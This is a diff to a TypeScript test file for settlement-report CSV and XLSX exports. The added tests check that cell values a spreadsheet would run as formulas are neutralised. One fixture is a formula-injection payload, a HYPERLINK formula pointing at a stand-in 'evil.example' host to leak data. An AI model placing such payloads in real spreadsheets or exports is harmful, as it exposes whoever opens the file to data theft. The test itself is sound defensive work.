@@ -279,10 +279,10 @@ describe('settlement reports: CSV and XLSX exports that reconcile with the ledge
         fill.journal_entry_id,
       ]);
       expect(first[col('executed_at')]).toBe(fill.executed_at.toISOString());
-      // RFC 4180 quoting in the raw bytes, CRLF line ends.
+      // RFC 4180 quoting in the raw bytes (typed values always quoted), CRLF line ends.
       const text = bytes.toString('utf8');
-      expect(text).toContain(',"a-1,""comma""","Quote ""Q"", Comma, Inc.",ASCEND-910B,cn-beijing,');
-      expect(text).toContain(',"b-2 ""quoted""",Beta Labs,ASCEND-910B,');
+      expect(text).toContain(',"a-1,""comma""","Quote ""Q"", Comma, Inc.","ASCEND-910B","cn-beijing",');
+      expect(text).toContain(',"b-2 ""quoted""","Beta Labs","ASCEND-910B",');
       expect(text.split('\r\n')).toHaveLength(rows.length + 2);
       expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
     });
@@ -494,6 +494,44 @@ describe('settlement reports: CSV and XLSX exports that reconcile with the ledge
       expect(done).toMatchObject({ status: 'SUCCEEDED', rowCount: 3 });
       expect(done.totals).toMatchObject(await ledgerTotals({ from: start, to: end, partnerId: beta.id }));
       expect(await sweep.run()).toBe(0);
+    });
+  });
+  describe('values a spreadsheet would run as formulas', () => {
+    it('writes them in CSV as quoted text behind a single quote (OWASP), recoverable, with the totals unchanged; XLSX keeps them as text', async () => {
+      const from = new Date(Date.now() - 1);
+      const evil = await pool.partner('@Formula "Labs"', 'SG');
+      const typed = ['=HYPERLINK("https://evil.example/?leak","Click")', '+1+2', '-3', "'quoted", 'plain'];
+      await trade(typed.map((clientOrderId) => ({ who: evil, clientOrderId, skuCode: 'MLU370', quantity: 1 })));
+      const period = { from, to: new Date(Date.now() + 1000), partnerId: evil.id };
+      const done = await built(period);
+      expect(done.rowCount).toBe(typed.length);
+      expect(done.totals).toMatchObject(await ledgerTotals(period));
+
+      const { bytes, rows } = await csvOf(done);
+      const text = bytes.toString('utf8');
+      expect(text).toContain(`,"'=HYPERLINK(""https://evil.example/?leak"",""Click"")","'@Formula ""Labs""","MLU370","cn-shanghai",`);
+      expect(text).toContain(`,"'+1+2",`);
+      expect(text).toContain(`,"''quoted",`);
+      expect(text).toContain(`,"plain",`);
+      for (const row of rows) {
+        for (const name of ['client_order_id', 'partner', 'sku', 'region']) expect(row[col(name)]).not.toMatch(/^[=+\-@\t\r]/);
+      }
+      // Dropping one leading single quote gives every value back exactly.
+      const recovered = (value: string) => (value.startsWith("'") ? value.slice(1) : value);
+      expect(rows.map((r) => recovered(r[col('client_order_id')]!)).sort()).toEqual([...typed].sort());
+      expect(new Set(rows.map((r) => recovered(r[col('partner')]!)))).toEqual(new Set(['@Formula "Labs"']));
+      const sum = rows.reduce((total, r) => total.plus(r[col('gross_amount')]!), new Decimal(0));
+      expect(sum.toFixed(2)).toBe(done.totals.grossAmount);
+
+      const xlsx = await built(period, 'XLSX');
+      const book = new ExcelJS.Workbook();
+      await book.xlsx.load((await download(xlsx.downloadUrl, keys.FINANCE)).body as unknown as ArrayBuffer);
+      const cells = book
+        .getWorksheet('Settlements')!
+        .getSheetValues()
+        .slice(2, 2 + typed.length)
+        .map((row) => (row as unknown[])[col('client_order_id') + 1]);
+      expect([...cells].sort()).toEqual([...typed].sort());
     });
   });
 });
